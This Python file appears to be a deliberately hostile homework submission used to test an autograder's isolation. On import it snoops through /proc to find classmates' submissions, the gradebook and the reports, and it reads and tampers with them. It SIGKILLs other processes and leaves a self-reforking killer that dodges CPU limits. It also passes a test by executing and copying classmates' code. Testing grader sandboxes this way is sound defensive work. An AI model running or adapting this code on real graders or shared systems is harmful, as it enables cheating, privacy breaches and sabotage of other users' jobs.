"""BPGRADE-HOSTILE submission for exercise03 (attack: batch_sabotage), for `bpgrade grade`.

linear_forward is CORRECT (its honest part); linear_backward copies the majority answer of the
classmates graded in the same batch, or, where it cannot reach them, raises
NotImplementedError. While it is imported, the file:

- reads every visible process's /proc/<pid>/cmdline, environ and cwd, finds the batch command
  (`bpgrade grade SUBMISSIONS -o grades.csv ...`, or `python -m grader grade ...`) and from it
  the submissions folder, the gradebook and the reports folder beside it;
- reads each classmate's exercise03_linear.py from the submissions folder (its own is the one
  that reads like itself), to run their linear_backward on its own inputs later;
- reads grades.csv and every report in grades-reports/;
- writes into what it can of its classmates: a file in each classmate child's scratch folder
  ($TMPDIR and $HOME from /proc/<pid>/environ) and working folder, an inert comment appended to
  their exercise files (in the workspace and in the submissions folder), a row appended to the
  gradebook and a file in the reports folder;
- sends SIGSTOP, then SIGKILL, to every process it can see that is not its own;
- leaves a killer: a process in a new session that, for 40 s, SIGKILLs every such process it
  sees every 0.1 s (it forks a successor every 2 s, so that a CPU-time limit never catches it).

Everything it read or wrote it prints, one line each, with BPGRADE-HOSTILE-MARKER (assembled at
run time), and writes carry the marker too, so the test finds them in the results.

The grader must run each concurrently graded submission as a uid of its own, show learner code
nothing of the batch (no command line, no submissions, no gradebook, no reports: they are
root's only), and end everything it started with its exercise: every classmate gets full
marks, the run reports no error, and the attacker gets only linear_forward.

Safe to run by mistake: as root it signals nothing; it signals only processes whose command
line shows the grader (bpgrade, grader.batch, grader.sandbox) or, when its own uid is no
login account (nobody, a sandbox uid), processes of that uid; never its ancestors, never -1;
it deletes nothing, appends only comments and rows that carry the marker, and the killer ends
by itself after 40 s. Every attempt is wrapped, so the file always imports.
"""

import contextlib
import os
import pwd
import signal
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np

FILE = "exercise03_linear.py"
MARKER = "BPGRADE-HOSTILE" + "-MARKER"
GRADER_WORDS = (b"bpgrade", b"grader.batch", b"grader.sandbox", b"-m\0grader")
VALUED_OPTIONS = {"-o", "--output", "-j", "--jobs", "--seed", "--timeout", "--memory", "--user"}
KILLER_SECONDS = 40.0
KILLER_PAUSE = 0.1
KILLER_GENERATION = 2.0
ME = os.getpid()
_classmates: dict[str, str] = {}  # student id: source of their exercise03_linear.py
_done: list[str] = []


def _say(what: str) -> None:
    _done.append(what)
    with contextlib.suppress(Exception):
        print(f"{MARKER} {what}")


def _read(path: str | Path, limit: int = 1 << 20) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


def _pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def _status(pid: int) -> dict[str, str]:
    fields = {}
    for line in _read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
        key, _, value = line.partition(":")
        fields[key] = value.strip()
    return fields


def _ancestors(pid: int) -> set[int]:
    chain = {pid}
    while pid > 1 and len(chain) < 64:
        try:
            pid = int(_status(pid).get("PPid", "0"))
        except ValueError:
            break
        chain.add(pid)
    return chain


# -- finding the batch ------------------------------------------------------------------------


def _batch_command(args: list[str]) -> list[str] | None:
    """The arguments after `grade` of a batch command line, or None."""
    for index, arg in enumerate(args[:-1]):
        runner = index > 0 and (args[index - 1].endswith("bpgrade") or args[index - 1] == "grader")
        if arg == "grade" and runner:
            return args[index + 1 :]
    return None


def _batches() -> Iterator[tuple[Path, Path]]:
    """(submissions folder, gradebook) of each batch command in sight."""
    for pid in _pids():
        raw = _read(f"/proc/{pid}/cmdline")
        args = [a.decode(errors="replace") for a in raw.split(b"\0") if a]
        rest = _batch_command(args)
        if rest is None:
            continue
        try:
            cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            cwd = Path(
                next(
                    (
                        e[4:].decode(errors="replace")
                        for e in _read(f"/proc/{pid}/environ").split(b"\0")
                        if e.startswith(b"PWD=")
                    ),
                    "/",
                )
            )
        positional, output = [], "grades.csv"
        skip = False
        for index, arg in enumerate(rest):
            if skip:
                skip = False
                continue
            if arg in VALUED_OPTIONS:
                skip = True
                if arg in ("-o", "--output") and index + 1 < len(rest):
                    output = rest[index + 1]
            elif arg.startswith("--output="):
                output = arg.split("=", 1)[1]
            elif not arg.startswith("-"):
                positional.append(arg)
        if positional:
            _say(f"found the batch command of pid {pid}: {' '.join(args)}")
            yield cwd / positional[0], cwd / output


def _exercise_file(folder: Path) -> Path:
    nested = folder / "exercises" / FILE
    return nested if nested.is_file() else folder / FILE


def _snoop(submissions: Path, gradebook: Path) -> None:
    own = _read(__file__)
    with contextlib.suppress(OSError):
        for folder in sorted(submissions.iterdir()):
            source = _read(_exercise_file(folder))
            if source and source != own:
                _classmates[folder.name] = source.decode(errors="replace")
                _say(f"read {folder.name}'s {FILE} ({len(source)} bytes)")
    text = _read(gradebook).decode(errors="replace")
    if text:
        _say(f"read the gradebook {gradebook}: {text.splitlines()[:3]}")
    reports = gradebook.with_name(f"{gradebook.stem}-reports")
    with contextlib.suppress(OSError):
        for report in sorted(reports.glob("*.json")):
            _say(f"read the report {report.name} ({len(_read(report))} bytes)")


# -- writing into the classmates -------------------------------------------------------------


def _append(path: Path, line: str) -> None:
    try:
        with open(path, "a") as file:
            file.write(line)
        _say(f"appended to {path}")
    except OSError:
        pass


def _create(path: Path) -> None:
    try:
        with open(path, "x") as file:
            file.write(f"{MARKER} written by pid {ME}\n")
        _say(f"wrote {path}")
    except OSError:
        pass


def _learner_uid(uid: int) -> bool:
    """A uid that is no login account: nobody, a sandbox's own uid."""
    try:
        entry = pwd.getpwuid(uid)
    except KeyError:
        return True
    return entry.pw_name == "nobody" or entry.pw_shell.endswith(("nologin", "false"))


def _targets(keep: set[int]) -> list[int]:
    """Every process in sight that is not ours: the grader's, and (when our uid is no login
    account) every process of our uid."""
    if os.getuid() == 0:
        return []
    mine = os.getuid()
    any_of_ours = _learner_uid(mine)
    found = []
    for pid in _pids():
        if pid in keep:
            continue
        cmdline = _read(f"/proc/{pid}/cmdline")
        try:
            uid = int(_status(pid).get("Uid", "-1").split()[0])
        except (ValueError, IndexError):
            continue
        if any(word in cmdline for word in GRADER_WORDS) or (any_of_ours and uid == mine):
            found.append(pid)
    return found


def _write_into(submissions: list[Path], keep: set[int]) -> None:
    line = f"# {MARKER} appended by a classmate\n"
    for pid in _targets(keep):
        environ = _read(f"/proc/{pid}/environ").split(b"\0")
        for entry in environ:
            if entry.startswith((b"TMPDIR=", b"HOME=")):
                _create(Path(entry.split(b"=", 1)[1].decode(errors="replace")) / f"x-{ME}.txt")
        with contextlib.suppress(OSError):
            cwd = Path(os.readlink(f"/proc/{pid}/cwd"))
            _create(cwd / f"x-{ME}.txt")
            for path in cwd.glob("exercise*.py"):
                _append(path, line)
    for folder in submissions:
        with contextlib.suppress(OSError):
            for student in sorted(folder.iterdir()):
                if student.name in _classmates:
                    _append(_exercise_file(student), line)


def _signal_all(keep: set[int]) -> None:
    targets = _targets(keep)
    for number in (signal.SIGSTOP, signal.SIGKILL):
        hit = 0
        for pid in targets:
            with contextlib.suppress(OSError):
                os.kill(pid, number)
                hit += 1
        if hit:
            _say(f"sent {signal.Signals(number).name} to {hit} of {len(targets)} processes")


def _killer(keep: set[int]) -> None:
    """Double fork, new session: SIGKILL every process not ours, for KILLER_SECONDS."""
    first = os.fork()
    if first != 0:
        with contextlib.suppress(OSError):
            os.waitpid(first, 0)
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        until = time.monotonic() + KILLER_SECONDS
        generation = time.monotonic() + KILLER_GENERATION
        while time.monotonic() < until:
            if time.monotonic() > generation:  # a fresh process: a fresh CPU-time count
                if os.fork() != 0:
                    os._exit(0)
                generation = time.monotonic() + KILLER_GENERATION
            for pid in _targets(keep | {os.getpid()}):
                with contextlib.suppress(OSError):
                    os.kill(pid, signal.SIGKILL)
            time.sleep(KILLER_PAUSE)
    except BaseException:
        pass
    finally:
        os._exit(0)


def _attack() -> None:
    keep = _ancestors(ME)
    submissions = []
    for folder, gradebook in _batches():
        submissions.append(folder)
        with contextlib.suppress(Exception):
            _snoop(folder, gradebook)
        with contextlib.suppress(Exception):
            _create(gradebook.with_name(f"{gradebook.stem}-reports") / f"x-{ME}.json")
            _append(gradebook, f"{MARKER}-{ME},0,0,0,0,0,0\n")
    with contextlib.suppress(Exception):
        _write_into(submissions, keep)
    with contextlib.suppress(Exception):
        _signal_all(keep)
    with contextlib.suppress(Exception):
        _killer(keep)


with contextlib.suppress(Exception):
    _attack()
with contextlib.suppress(Exception):
    print(f"batch_sabotage: {len(_done)} things done, {len(_classmates)} classmates read")


# -- copying ------------------------------------------------------------------------------------


def _their(source: str) -> Callable[..., Any] | None:
    if "BPGRADE-HOSTILE" in source:
        return None
    namespace: dict[str, Any] = {"__name__": "classmate"}
    exec(compile(source, "classmate", "exec"), namespace)
    function = namespace.get("linear_backward")
    return function if callable(function) else None


def _majority(dZ: np.ndarray, X: np.ndarray, W: np.ndarray) -> Any:
    answers: dict[bytes, Any] = {}
    votes: Counter[bytes] = Counter()
    for source in _classmates.values():
        with contextlib.suppress(Exception):
            function = _their(source)
            if function is None:
                continue
            answer = tuple(np.array(a, dtype=np.float64) for a in function(dZ, X, W))
            key = b"|".join(np.round(a, 9).tobytes() for a in answer)
            answers[key] = answer
            votes[key] += 1
    if not votes:
        return None
    return answers[votes.most_common(1)[0][0]]


def linear_forward(X: np.ndarray, W: np.ndarray, b: np.ndarray) -> np.ndarray:
    return X @ W.T + b


def linear_backward(
    dZ: np.ndarray, X: np.ndarray, W: np.ndarray
) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    answer = _majority(dZ, X, W)
    if answer is None:
        raise NotImplementedError("no classmate could be copied")
    return answer
